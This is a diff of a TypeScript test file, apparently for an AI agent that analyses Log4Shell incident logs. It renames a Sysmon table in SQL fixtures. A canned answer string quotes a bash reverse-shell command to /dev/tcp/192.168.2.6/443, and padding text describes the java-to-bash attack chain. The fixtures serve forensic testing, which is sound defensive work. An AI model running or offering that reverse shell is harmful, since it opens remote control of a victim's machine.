@@ -36,12 +36,12 @@ if (missing !== undefined && process.env.CI === 'true')
   throw new Error(`required in CI (CI=true): ${missing}`);
 
 const decodeSql =
-  "select Computer, try(decode(from_base64(regexp_extract(SyslogMessage, '\\{echo,([A-Za-z0-9+/=]+)\\}', 1)))) as decoded_command from log4shell_linux_sysmon where SyslogMessage like '%{echo,%'";
+  "select Computer, try(decode(from_base64(regexp_extract(SyslogMessage, '\\{echo,([A-Za-z0-9+/=]+)\\}', 1)))) as decoded_command from ubuntu5_sysmon where SyslogMessage like '%{echo,%'";
 const padding = ' Evidence row: java → bash → base64 -d → bash -i on UBUNTU5 at 2022-05-11T18:10:22Z.'.repeat(
   40,
 );
 const learned =
-  'log4shell_linux_sysmon.SyslogMessage holds the Sysmon XML; decode {echo,<base64>} payloads with from_base64.';
+  'ubuntu5_sysmon.SyslogMessage holds the Sysmon XML; decode {echo,<base64>} payloads with from_base64.';
 const firstAnswer =
   'The JVM started a reverse shell: bash -i >& /dev/tcp/192.168.2.6/443 0>&1, as the tomcat user.';
 const replies: LoopbackReply[] = [
